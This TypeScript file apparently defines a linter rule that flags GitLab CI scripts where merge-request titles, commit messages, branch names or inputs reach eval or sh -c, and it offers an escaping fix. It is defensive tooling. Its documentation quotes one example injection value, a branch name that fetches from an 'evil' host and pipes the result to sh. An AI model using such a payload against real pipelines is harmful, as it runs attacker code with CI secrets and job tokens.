import { defineRule } from '../../engine/rule';
import type { AnalysisContext } from '../../engine/context';
import type { GitlabPipeline, GitlabScript } from '../../model/gitlab/pipeline';
import { interpretedUses, UNTRUSTED_FREE_TEXT } from '../../analysis/gitlab';

export default defineRule({
  meta: {
    id: 'gitlab-script-injection',
    title: 'Untrusted GitLab variable parsed as code',
    description:
      'A merge-request title, commit message or branch name is expanded into text that `eval`, `sh -c` or another interpreter parses again, or a `$[[ inputs.x ]]` string input is pasted into a script.',
    severity: 'high',
    confidence: 'medium',
    category: 'untrusted-input',
    aliases: ['gitlab-injection'],
    appliesTo: ['gitlab'],
    fixable: true,
    fixSafety:
      'Unsafe: quoting the variable stops the shell from re-parsing its text, which also stops any word splitting or command text a pipeline relied on; review the command.',
    docs: {
      risk: 'GitLab hands predefined variables to the job shell as data, so `echo "$CI_MERGE_REQUEST_TITLE"` is safe. But when the outer shell expands the value into a command string that `eval`, `sh -c "…"`, `python -c "…"` or ssh runs, the text becomes code: a merge-request title, a commit message (a squashed merge request description lands on the default branch with its protected variables) or a branch name such as `x;curl${IFS}evil|sh` runs with the job\'s CI/CD variables and `CI_JOB_TOKEN`. `$[[ inputs.x ]]` is substituted into the script text before any shell runs, so a string input is code too.',
      remediation:
        'Let the inner program read the variable itself: escape it so the outer shell does not expand it (`sh -c "echo \\"\\$CI_COMMIT_BRANCH\\""`), or avoid eval. For inputs, declare `options:` or a `regex:` in `spec: inputs`, or pass the input through `variables:` and use the quoted variable. The quick-fix escapes the reference so the inner shell reads it as a quoted variable.',
      vulnerableExample: 'lint:\n  script:\n    - sh -c "echo Checking $CI_COMMIT_BRANCH"\n',
      safeExample: 'lint:\n  script:\n    - sh -c "echo Checking \\"\\$CI_COMMIT_BRANCH\\""\n',
      references: [
        'https://docs.gitlab.com/ci/variables/predefined_variables/',
        'https://docs.gitlab.com/ci/inputs/',
        'https://docs.gitlab.com/ci/pipelines/merge_request_pipelines/#run-pipelines-in-the-parent-project',
      ],
    },
  },
  pipeline(p, ctx) {
    for (const s of p.globalScripts) check(s, p, ctx);
  },
  gitlabJob(job, p, ctx) {
    for (const s of job.scripts) check(s, p, ctx);
  },
});

function check(script: GitlabScript, p: GitlabPipeline, ctx: AnalysisContext): void {
  const span = script.line.span;
  const source = ctx.text.slice(span.start, span.end);
  // Inside a double-quoted YAML scalar the source has escapes: judge the value, report without a fix.
  const style = (script.line.node as { type?: string }).type;
  const editable = style !== 'QUOTE_DOUBLE';
  let offset = 0;
  for (const line of source.split('\n')) {
    for (const use of interpretedUses(line)) {
      const start = span.start + offset + use.index;
      // '$X' inside the outer double quotes: the inner shell sees single quotes, so they go with the reference.
      const wrapped = use.inDoubleQuotes && line[use.index - 1] === "'" && line[use.index + use.length] === "'";
      const editSpan = wrapped ? { start: start - 1, end: start + use.length + 1 } : { start, end: start + use.length };
      const freeText = UNTRUSTED_FREE_TEXT.has(use.name);
      const escaped = use.inDoubleQuotes ? `\\"\\$\{${use.name}}\\"` : `"\\$\{${use.name}}"`;
      ctx.report({
        message: `$${use.name} is expanded into text that ${use.sink} runs as code: ${freeText ? 'its author (a merge-request or commit author) can write any shell command' : 'a branch name can hold shell syntax such as $(…) or ;'}. Escape it so the inner shell reads it as data.`,
        span: { start, end: start + use.length },
        severity: freeText ? 'high' : 'medium',
        fixes: editable
          ? [
              {
                title: `Let ${use.sink} read \$${use.name} as a quoted variable`,
                safety: 'unsafe',
                isPreferred: true,
                edits: [{ span: editSpan, newText: escaped }],
              },
            ]
          : [],
      });
    }
    offset += line.length + 1;
  }
  // `$[[ inputs.name ]]` is substituted into the script text before the shell parses it.
  for (const m of source.matchAll(/\$\[\[\s*inputs\.([A-Za-z0-9_-]+)[^\]]*\]\]/g)) {
    const input = p.inputs.find((i) => i.name === m[1]);
    if (input && (input.constrained || (input.type !== undefined && input.type !== 'string'))) continue;
    const start = span.start + m.index!;
    ctx.report({
      message: `Input '${m[1]}' is pasted into the script text before the shell runs: whoever sets it (the including pipeline, or a person running the pipeline) can add shell commands. Restrict it with options: or regex:, or pass it through variables:.`,
      span: { start, end: start + m[0].length },
      severity: 'low',
      confidence: 'medium',
    });
  }
}
